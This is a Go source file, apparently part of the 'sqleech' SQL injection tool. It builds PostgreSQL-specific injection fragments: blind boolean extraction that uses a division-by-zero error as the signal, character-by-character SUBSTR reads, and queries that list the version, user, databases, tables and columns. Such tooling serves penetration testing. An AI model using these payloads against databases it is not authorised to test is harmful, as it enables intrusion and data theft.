package forge

import (
	"fmt"
	"strings"

	"github.com/0x6d61/sqleech/internal/sqlictx"
)

// PostgreSQL overrides the primitives whose syntax differs from the
// MySQL-like Base default: string concatenation, substring, and the
// division-by-zero bisection branch.
type PostgreSQL struct {
	Base
}

// NewPostgreSQL constructs a PostgreSQL forge bound to ctx.
func NewPostgreSQL(ctx *sqlictx.Context) *PostgreSQL {
	return &PostgreSQL{Base: NewBase(ctx)}
}

func (p *PostgreSQL) Name() string { return "PostgreSQL" }

func (p *PostgreSQL) ConcatStr(parts ...string) string {
	return strings.Join(parts, "||")
}

func (p *PostgreSQL) GetChar(s string, pos int) string {
	return fmt.Sprintf("SUBSTR(%s,%d,1)", s, pos)
}

// WrapBisec evaluates to 1 when cdt is true, and raises a
// division-by-zero error otherwise.
func (p *PostgreSQL) WrapBisec(cdt string) string {
	return fmt.Sprintf("SELECT CASE WHEN (%s) THEN 1 ELSE 1/0 END", cdt)
}

func (p *PostgreSQL) GetVersion() string { return "version()" }
func (p *PostgreSQL) GetUser() string    { return "current_user" }

func (p *PostgreSQL) GetCurrentDatabase() string { return "current_database()" }

func (p *PostgreSQL) GetDatabases() (string, error) {
	return "SELECT datname FROM pg_database WHERE datistemplate=false", nil
}

func (p *PostgreSQL) GetTables(db string) (string, error) {
	return "SELECT table_name FROM information_schema.tables WHERE table_schema='public'", nil
}

// Take returns the 0-based i-th record via LIMIT 1 OFFSET i, PostgreSQL's
// syntax (MySQL's "LIMIT i,1" form is not accepted by PostgreSQL).
func (p *PostgreSQL) Take(records string, i int) string {
	return fmt.Sprintf("(%s LIMIT 1 OFFSET %d)", records, i)
}

func (p *PostgreSQL) GetFields(table, db string) (string, error) {
	return fmt.Sprintf(
		"SELECT column_name FROM information_schema.columns WHERE table_name=%s",
		p.WrapString(table),
	), nil
}
